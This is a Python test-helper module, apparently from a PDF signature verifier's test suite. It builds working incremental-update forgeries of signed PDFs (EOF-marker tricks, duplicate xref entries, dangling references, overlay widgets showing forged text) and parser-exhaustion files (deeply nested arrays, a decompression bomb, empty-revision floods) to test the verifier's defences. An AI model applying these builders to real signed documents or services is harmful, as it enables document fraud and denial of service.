"""Hostile PDF files of the PDF-Insecurity classes, built by code from real signed files.

Every builder takes the bytes of a signed PDF (from ``signing.sign`` or pyHanko) and
returns a file that a PDF viewer shows differently from what was signed, or that is
built to exhaust the verifier. Updates are written byte by byte here, because the
point is to write what a well-behaved writer (pyHanko's) refuses to write: duplicate
cross-reference entries, a broken end-of-file line, references to objects that do not
exist yet.

The tests check the effect on poppler (``pdftotext``) next to the verifier's verdict, so
a builder that stops producing a working forgery makes its test fail instead of
passing on a file that was never dangerous.
"""

from __future__ import annotations

import io
import subprocess
import tempfile
import zlib
from dataclasses import dataclass
from pathlib import Path

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import NameObject as N
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.reader import PdfFileReader

FORGED_TEXT = b"FORGED 999 HECTARES"


# --- reading what an update needs -------------------------------------------------


@dataclass(frozen=True)
class Tail:
    """What the next incremental update of a file refers to."""

    root: bytes  # "1 0 R"
    info: bytes | None
    id: bytes | None  # the /ID array as PDF text
    size: int
    startxref: int


def _ref_text(obj) -> bytes:
    return f"{obj.idnum} {obj.generation} R".encode()


def _hex(b: bytes) -> bytes:
    return b"<" + b.hex().encode() + b">"


def _raw_bytes(value) -> bytes:
    return value.original_bytes if isinstance(value, generic.TextStringObject) else bytes(value)


def tail(pdf: bytes) -> Tail:
    reader = PdfFileReader(io.BytesIO(pdf), strict=False)
    trailer = reader.trailer_view
    ids = trailer.get("/ID")
    info = trailer.raw_get("/Info") if "/Info" in trailer else None
    return Tail(
        root=_ref_text(trailer.raw_get("/Root")),
        info=_ref_text(info) if info is not None else None,
        id=b"[" + b" ".join(_hex(_raw_bytes(x)) for x in ids) + b"]" if ids is not None else None,
        size=int(trailer.raw_get("/Size")),
        startxref=reader.last_startxref,
    )


def first_page(pdf: bytes):
    """(page object number, its /Contents object number, its font resource name or None)."""
    reader = PdfFileReader(io.BytesIO(pdf), strict=False)
    page_ref = reader.root["/Pages"]["/Kids"].raw_get(0)
    page = page_ref.get_object()
    contents = page.raw_get("/Contents")
    if isinstance(contents, generic.ArrayObject):
        contents = contents.raw_get(0)
    resources = page["/Resources"]
    fonts = resources["/Font"] if "/Font" in resources else None
    font = next(iter(fonts.keys()), None) if fonts else None
    return page_ref.idnum, contents.idnum, font


def page_count(pdf: bytes) -> int:
    return int(PdfFileReader(io.BytesIO(pdf), strict=False).root["/Pages"]["/Count"])


def page_content(pdf: bytes, page: int = 0) -> bytes:
    """Decoded content stream(s) of a page as the latest revision has them."""
    reader = PdfFileReader(io.BytesIO(pdf), strict=False)
    page_obj = reader.root["/Pages"]["/Kids"][page].get_object()
    contents = page_obj["/Contents"]
    if isinstance(contents, generic.ArrayObject):
        return b"\n".join(c.get_object().data for c in contents)
    return contents.data


# --- writing updates byte by byte --------------------------------------------------


def stream_object(num: int, data: bytes, extra: bytes = b"", *, compress: bool = False) -> bytes:
    if compress:
        data = zlib.compress(data)
        extra += b" /Filter /FlateDecode"
    return b"%d 0 obj\n<< /Length %d%s >>\nstream\n%s\nendstream\nendobj\n" % (num, len(data), extra, data)


def plain_object(num: int, body: bytes) -> bytes:
    return b"%d 0 obj\n%s\nendobj\n" % (num, body)


def _trailer_dict(t: Tail, size: int, extra: bytes = b"") -> bytes:
    parts = [b"/Size %d" % size, b"/Root " + t.root, b"/Prev %d" % t.startxref]
    if t.info:
        parts.append(b"/Info " + t.info)
    if t.id:
        parts.append(b"/ID " + t.id)
    return b"<< " + b" ".join(parts) + extra + b" >>"


def append_update(
    pdf: bytes,
    objects: list[tuple[int, bytes]],
    *,
    entries: list[tuple[int, int]] | None = None,
    xref: str = "table",
    size: int | None = None,
    eof_line: bytes = b"%%EOF\n",
    unlisted: frozenset[int] = frozenset(),
) -> bytes:
    """Append ``objects`` (number, full "N 0 obj ... endobj" text) as an incremental update.

    ``entries``: the cross-reference entries to write, in this order, as (object
    number, offset); by default one per object at the offset it was written at. The
    same number may be given twice: that is what some attacks need. ``unlisted``: objects
    written but left out of the default entries. ``xref`` is "table" or "stream";
    ``eof_line`` replaces the final ``%%EOF`` line.
    """
    t = tail(pdf)
    out = bytearray(pdf)
    if not out.endswith(b"\n"):
        out += b"\n"
    offsets: dict[int, int] = {}
    for num, text in objects:
        offsets[num] = len(out)
        out += text
    if entries is None:
        entries = [(num, offsets[num]) for num, _ in objects if num not in unlisted]
    highest = max([num for num, _ in entries] + [t.size - 1])
    size = size if size is not None else highest + 1
    xref_at = len(out)
    if xref == "table":
        out += b"xref\n"
        for num, offset in entries:
            out += b"%d 1\n%010d 00000 n\r\n" % (num, offset)
        out += b"trailer\n" + _trailer_dict(t, size) + b"\n"
    elif xref == "stream":
        xnum = max(size, highest + 1)
        size = xnum + 1
        rows = b"".join(b"\x01" + offset.to_bytes(4, "big") + b"\x00\x00" for _, offset in entries)
        rows += b"\x01" + xref_at.to_bytes(4, "big") + b"\x00\x00"
        index = b" ".join(b"%d 1" % num for num, _ in entries) + b" %d 1" % xnum
        extra = (
            b" /Type /XRef /W [1 4 2] /Index [" + index + b"]"
            + _trailer_dict(t, size)[2:-2]
        )
        out += stream_object(xnum, rows, extra, compress=True)
    elif xref == "stream-predicted":  # PNG "Up" predictor, as Acrobat and Word write them
        xnum = max(size, highest + 1)
        size = xnum + 1
        plain = [b"\x01" + o.to_bytes(4, "big") + b"\x00\x00" for _, o in entries]
        plain.append(b"\x01" + xref_at.to_bytes(4, "big") + b"\x00\x00")
        previous, rows = bytes(7), b""
        for row in plain:
            rows += b"\x02" + bytes((a - b) & 0xFF for a, b in zip(row, previous))
            previous = row
        index = b" ".join(b"%d 1" % num for num, _ in entries) + b" %d 1" % xnum
        extra = (
            b" /Type /XRef /W [1 4 2] /Index [" + index + b"] /DecodeParms << /Columns 7 /Predictor 12 >>"
            + _trailer_dict(t, size)[2:-2]
        )
        out += stream_object(xnum, rows, extra, compress=True)
    else:
        raise ValueError(xref)
    out += b"startxref\n%d\n" % xref_at + eof_line
    return bytes(out)


# --- the attacks --------------------------------------------------------------------


def forged_content(font: str | None, text: bytes = FORGED_TEXT) -> bytes:
    """A content stream that shows ``text`` (with the page's own font) on white."""
    show = b"BT %s 24 Tf 72 700 Td (%s) Tj ET" % (font.encode() if font else b"/F1", text) if font else b""
    return b"q 1 1 1 rg 0 0 2000 2000 re f Q 0 g " + show


def eof_marker_differential(signed: bytes, eof_line: bytes = b" %%EOF\n") -> bytes:
    """1. An update replacing page 1's content whose last line is not a clean ``%%EOF``:
    a reader that looks for a line starting with %%EOF walks back to the signed revision,
    one that follows the last ``startxref`` shows the update."""
    page, contents, font = first_page(signed)
    t = tail(signed)
    num = t.size
    page_obj = _page_with_contents(signed, page, num)
    return append_update(
        signed, [(num, stream_object(num, forged_content(font))), (page, page_obj)], eof_line=eof_line
    )


def _page_with_contents(pdf: bytes, page_num: int, contents_num: int) -> bytes:
    """The text of page ``page_num``'s dictionary with /Contents replaced."""
    reader = PdfFileReader(io.BytesIO(pdf), strict=False)
    page = reader.get_object(generic.Reference(page_num, 0))
    out = io.BytesIO()
    copy = generic.DictionaryObject({k: page.raw_get(k) for k in page.keys()})  # references stay references
    copy[N("/Contents")] = generic.IndirectObject(contents_num, 0, reader)
    copy.write_to_stream(out, None)
    return plain_object(page_num, out.getvalue())


def duplicate_xref_entry(signed: bytes, *, xref: str = "table") -> bytes:
    """2. One update whose cross-reference section lists page 1's content object twice:
    first at a forged stream written in the update, then at the original offset. A
    reader that keeps the first entry shows the forgery, one that keeps the last sees
    the signed object unchanged."""
    _, contents, font = first_page(signed)
    original_offset = object_offset(signed, contents)
    forged = stream_object(contents, forged_content(font))
    out = append_update(signed, [(contents, forged)])  # to learn where the object lands
    forged_offset = len(signed) + (0 if signed.endswith(b"\n") else 1)
    assert out[forged_offset:].startswith(b"%d 0 obj" % contents)
    return append_update(
        signed, [(contents, forged)], entries=[(contents, forged_offset), (contents, original_offset)], xref=xref
    )


def object_offset(pdf: bytes, num: int) -> int:
    """Offset of object ``num`` as the last revision's cross-reference data says."""
    reader = PdfFileReader(io.BytesIO(pdf), strict=False)
    loc = reader.xrefs[generic.Reference(num, 0)]
    if not isinstance(loc, int):
        raise ValueError(f"object {num} is in an object stream")
    return loc


def dangling_reference_pdf(text: str = "Hello", dangling: int = 40) -> tuple[bytes, int]:
    """3. (before signing) ``tiny_pdf`` whose page also draws the form XObject
    ``dangling 0 R``, an object that does not exist: readers draw nothing for it.
    Returns (pdf, object number)."""
    from pdfs import tiny_pdf

    w = IncrementalPdfFileWriter(io.BytesIO(tiny_pdf(text)), strict=False)
    page = w.root["/Pages"]["/Kids"][0].get_object()
    page["/Resources"][N("/XObject")] = generic.DictionaryObject({N("/Fm0"): generic.IndirectObject(dangling, 0, w)})
    content = page["/Contents"].data + b" q /Fm0 Do Q"
    page[N("/Contents")] = w.add_object(generic.StreamObject(stream_data=content))
    w.update_container(page)
    out = io.BytesIO()
    w.write(out)
    return out.getvalue(), dangling


def define_dangling(signed: bytes, num: int, *, font_num: int | None = None) -> bytes:
    """3. (after signing) An update that only adds object ``num``: a form XObject that
    paints the page white and writes the forged text."""
    if font_num is None:
        reader = PdfFileReader(io.BytesIO(signed), strict=False)
        page = reader.root["/Pages"]["/Kids"][0].get_object()
        font_num = page["/Resources"].raw_get("/Font").get_object().raw_get("/F1").idnum
    extra = (
        b" /Type /XObject /Subtype /Form /BBox [0 0 2000 2000]"
        b" /Resources << /Font << /F1 %d 0 R >> >>" % font_num
    )
    size = max(tail(signed).size, num + 1)
    return append_update(signed, [(num, stream_object(num, forged_content("/F1"), extra))], size=size)


def overlay_field(signed: bytes, rect=(0, 0, 595, 842), content: bytes | None = None) -> bytes:
    """10. A new, empty signature field (pyHanko's own ``append_signature_field``) whose
    widget covers ``rect`` of page 1 with an appearance that paints it white and writes
    the forged text; ``content`` replaces that appearance's drawing."""
    from pyhanko.sign.fields import SigFieldSpec, append_signature_field

    w = IncrementalPdfFileWriter(io.BytesIO(signed), strict=False)
    append_signature_field(w, SigFieldSpec("Overlay", box=rect, on_page=0))
    widget = w.root["/AcroForm"]["/Fields"][-1]
    if "/AP" not in widget:  # pyHanko draws no appearance for a box without area: add one
        widget[N("/AP")] = generic.DictionaryObject({N("/N"): w.add_object(generic.StreamObject())})
    appearance_ref = widget["/AP"].raw_get("/N")
    page = w.root["/Pages"]["/Kids"][0]
    fonts = page["/Resources"]["/Font"] if "/Font" in page["/Resources"] else None
    x0, y0, x1, y1 = rect
    data = content if content is not None else (
        b"q 1 1 1 rg 0 0 %d %d re f Q" % (x1 - x0, y1 - y0)
        + (b" 0 g BT /F1 24 Tf 72 700 Td (%s) Tj ET" % FORGED_TEXT if fonts and "/F1" in fonts else b"")
    )
    stream = generic.StreamObject(
        {
            N("/Type"): N("/XObject"),
            N("/Subtype"): N("/Form"),
            N("/BBox"): generic.ArrayObject([generic.NumberObject(v) for v in (0, 0, x1 - x0, y1 - y0)]),
            N("/Resources"): generic.DictionaryObject(
                {N("/Font"): generic.DictionaryObject({N("/F1"): fonts.raw_get("/F1")})} if fonts and "/F1" in fonts
                else {}
            ),
        },
        stream_data=data,
    )
    w.objects[(appearance_ref.generation, appearance_ref.idnum)] = stream
    out = io.BytesIO()
    w.write(out)
    return out.getvalue()


# --- hostile input for the parser -------------------------------------------------


def signature_field_with_value(pdf: bytes, value: bytes) -> bytes:
    """8. A /Sig field whose /V is ``value`` as PDF text (a string, a number, a
    reference to a missing object) added by an update to ``pdf``."""
    t = tail(pdf)
    reader = PdfFileReader(io.BytesIO(pdf), strict=False)
    root_num = reader.trailer_view.raw_get("/Root").idnum
    root = reader.root
    field_num = t.size
    field = plain_object(field_num, b"<< /FT /Sig /T (Hostile) /V " + value + b" /Rect [0 0 0 0] /Subtype /Widget >>")
    body = io.BytesIO()
    copy = generic.DictionaryObject({k: root.raw_get(k) for k in root.keys() if k != "/AcroForm"})
    copy.write_to_stream(body, None)
    text = body.getvalue()[:-2]  # drop ">>"
    fields = [f"{f.idnum} {f.generation} R".encode() for f in _raw_fields(root)]
    fields.append(b"%d 0 R" % field_num)
    text += b" /AcroForm << /Fields [" + b" ".join(fields) + b"] /SigFlags 3 >> >>"
    return append_update(pdf, [(field_num, field), (root_num, plain_object(root_num, text))])


def _raw_fields(root) -> list:
    if "/AcroForm" not in root or "/Fields" not in root["/AcroForm"]:
        return []
    fields = root["/AcroForm"]["/Fields"]
    return [fields.raw_get(i) for i in range(len(fields))]


def deep_array_update(pdf: bytes, depth: int = 50_000) -> bytes:
    """8. An update adding an object that is an array nested ``depth`` deep, referenced
    from the catalog so that every reader meets it."""
    t = tail(pdf)
    reader = PdfFileReader(io.BytesIO(pdf), strict=False)
    root_num = reader.trailer_view.raw_get("/Root").idnum
    root = reader.root
    num = t.size
    body = io.BytesIO()
    copy = generic.DictionaryObject({k: root.raw_get(k) for k in root.keys()})
    copy.write_to_stream(body, None)
    text = body.getvalue()[:-2] + b" /QujatDeep %d 0 R >>" % num
    deep = b"[" * depth + b"]" * depth
    return append_update(pdf, [(num, plain_object(num, deep)), (root_num, plain_object(root_num, text))])


def deep_array_in_signature_dict(pdf: bytes, depth: int = 50_000) -> bytes:
    """8. A deep array placed directly in the (signed) catalog of an unsigned file."""
    return pdf.replace(b"/Type /Catalog", b"/Type /Catalog /QujatDeep " + b"[" * depth + b"]" * depth, 1)


def dss_bomb(signed: bytes, decoded_mb: int = 1024) -> bytes:
    """8. A DSS whose certificate, OCSP and CRL streams each inflate to ``decoded_mb`` MB
    through two stacked Flate filters (a few hundred KB on disk)."""
    zeros = zlib.compressobj(9)
    chunk = bytes(1 << 20)
    inner = b"".join(zeros.compress(chunk) for _ in range(decoded_mb)) + zeros.flush()
    outer = zlib.compress(inner, 9)
    t = tail(signed)
    reader = PdfFileReader(io.BytesIO(signed), strict=False)
    root_num = reader.trailer_view.raw_get("/Root").idnum
    root = reader.root
    bomb_num, dss_num = t.size, t.size + 1
    bomb = b"%d 0 obj\n<< /Length %d /Filter [/FlateDecode /FlateDecode] >>\nstream\n" % (bomb_num, len(outer))
    bomb += outer + b"\nendstream\nendobj\n"
    dss = plain_object(
        dss_num, b"<< /Certs [%d 0 R] /OCSPs [%d 0 R] /CRLs [%d 0 R] >>" % (bomb_num, bomb_num, bomb_num)
    )
    body = io.BytesIO()
    copy = generic.DictionaryObject({k: root.raw_get(k) for k in root.keys() if k != "/DSS"})
    copy.write_to_stream(body, None)
    text = body.getvalue()[:-2] + b" /DSS %d 0 R >>" % dss_num
    return append_update(signed, [(bomb_num, bomb), (dss_num, dss), (root_num, plain_object(root_num, text))])


def empty_revisions(signed: bytes, count: int) -> bytes:
    """9. ``count`` incremental updates that change nothing: an empty cross-reference
    section and a trailer each (about 100 bytes per update)."""
    t = tail(signed)
    out = bytearray(signed)
    if not out.endswith(b"\n"):
        out += b"\n"
    prev = t.startxref
    for _ in range(count):
        at = len(out)
        out += b"xref\n0 0\ntrailer\n" + _trailer_dict(Tail(t.root, t.info, None, t.size, prev), t.size)
        out += b"\nstartxref\n%d\n%%%%EOF\n" % at
        prev = at
    return bytes(out)


# --- what poppler shows -------------------------------------------------------------


def poppler_text(pdf: bytes, page: int = 1) -> str:
    """The text poppler's pdftotext extracts from ``page`` (annotations are not drawn)."""
    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "f.pdf"
        path.write_bytes(pdf)
        proc = subprocess.run(
            ["pdftotext", "-f", str(page), "-l", str(page), str(path), "-"], capture_output=True, timeout=60
        )
    return proc.stdout.decode("utf-8", "replace")
